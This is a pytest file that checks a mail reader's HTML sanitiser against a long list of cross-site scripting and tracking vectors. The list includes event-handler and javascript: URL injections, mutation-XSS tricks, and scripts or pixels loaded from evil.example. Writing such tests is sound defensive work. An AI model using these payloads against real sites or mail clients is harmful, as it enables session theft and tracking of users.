"""No HTML of a stranger runs, fetches, or poses as ours."""

from html.parser import HTMLParser
from itertools import product

import pytest

from caseway.mail.reading import read
from caseway.mail.reading.markup.sanitise import ATTRIBUTES, TAGS

PAYLOADS = ("alert(1)", "fetch('//evil.example')", "top.location='//evil.example'")
VECTORS = [
    "<script>{0}</script>",
    "<ScRiPt\n>{0}</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={0}>",
    '<img src="x" onerror="{0}" alt="a">',
    "<img/src=x/onerror={0}>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><style><img src=x onerror={0}></style></svg>",
    "<svg><feImage href=https://evil.example/x></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={0}&gt;'>",
    "<math><mi//xlink:href='data:x,<script>{0}</script>'>",
    "<body onload={0}>",
    "<a href='javascript:{0}'>x</a>",
    "<a href='jAvAsCrIpT:{0}'>x</a>",
    "<a href=' java&#10;script:{0}'>x</a>",
    "<a href='&#106;avascript:{0}'>x</a>",
    "<a href='data:text/html,<script>{0}</script>'>x</a>",
    "<a href='vbscript:{0}'>x</a>",
    "<a href='//evil.example/x' onclick={0}>x</a>",
    "<a href='/accounts/logout'>x</a>",
    "<form action=//evil.example><input name=password><button formaction='javascript:{0}'>x</button></form>",
    "<input autofocus onfocus={0}>",
    "<iframe src='javascript:{0}'></iframe>",
    "<iframe srcdoc='&lt;script&gt;{0}&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>{0}</script>'></object>",
    "<embed src='javascript:{0}'>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<div style='position:fixed;inset:0;z-index:999'>x</div>",
    "<div class='btn-primary app-shell' id='app'>x</div>",
    "<td background=//evil.example/x>x</td>",
    "<video src=//evil.example/x onerror={0}></video>",
    "<audio src=//evil.example/x></audio>",
    "<details open ontoggle={0}>x</details>",
    "<marquee onstart={0}>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<textarea><img title='</textarea><img src=x onerror={0}>'>",
    "<title><img title='</title><img src=x onerror={0}>'>",
    "<xmp><p title='</xmp><img src=x onerror={0}>'>",
    "<template><img src=x onerror={0}></template>",
    "<!--[if mso]><script>{0}</script><![endif]-->",
    "<!--><img src=x onerror={0}>-->",
    "<![CDATA[<img src=x onerror={0}>]]>",
    "<img src='//evil.example/pixel.gif'>",
    "<img src='https://evil.example/pixel.gif' srcset='//evil.example/2 2x'>",
    "<img src='data:image/svg+xml,<svg onload={0}>'>",
    "<picture><source srcset='//evil.example/x'><img src=cid:a></picture>",
    "<img src=\"cid:x' onerror={0} '\">",
    "<img src='cid:\"><script>{0}</script>'>",
    "<a title='\"><img src=x onerror={0}>' href='https://a.example'>x</a>",
    "<a href='https://a.example/\"onmouseover={0}//'>x</a>",
    "<p title='`onmouseover={0}`'>x</p>",
    "<x-card onclick={0}>x</x-card>",
    "<div data-cid=x data-remote-src=//evil.example hx-get=/desk/ hx-trigger=load>x</div>",
]
AROUND = ("{}", "<p>{}</p>", "<b><i>{}", "<table><tr><td>{}</td></tr></table>", "<blockquote type=cite>{}")
SAFE_SCHEMES = ("http://", "https://", "mailto:", "tel:")
OURS = {"target", "rel", "data-cid", "data-remote-src"}


class Seen(HTMLParser):
    """What a browser would meet."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def html_of(markup: str):
    found = read(b"Content-Type: text/html; charset=utf-8\n\n" + markup.encode())
    return found.html, found.html_new, found.html_quoted


@pytest.mark.parametrize("vector", VECTORS)
def test_vector_is_harmless(vector):
    for payload, around in product(PAYLOADS, AROUND):
        for markup in html_of(around.format(vector.replace("{0}", payload))):
            seen = Seen(markup)
            assert seen.tags <= TAGS
            for tag, name, value in seen.attributes:
                allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | OURS
                assert name in allowed - {"id", "style", "src"}
                if name == "href":
                    assert value.lower().startswith(SAFE_SCHEMES)
                if name == "class":
                    assert value.startswith("mail-")


def test_links_open_apart_and_tell_nothing():
    markup, *_ = html_of('<a href="https://x.example" target="_top" rel="opener">x</a>')
    assert markup == ('<a href="https://x.example" target="_blank" rel="noopener noreferrer nofollow">x</a>')


def test_pictures_are_inert_but_can_be_found_again():
    markup, *_ = html_of('<img src="cid:logo@x" alt="Logo"><img src="https://t.example/a.png?x=1&amp;y=2">')
    assert markup == (
        '<img alt="Logo" data-cid="logo@x"><img data-remote-src="https://t.example/a.png?x=1&amp;y=2" alt="">'
    )


def test_text_of_removed_elements_stays():
    markup, *_ = html_of("<form>Please <font color=red>answer</font> <button>now</button></form>")
    assert markup == "Please answer now"
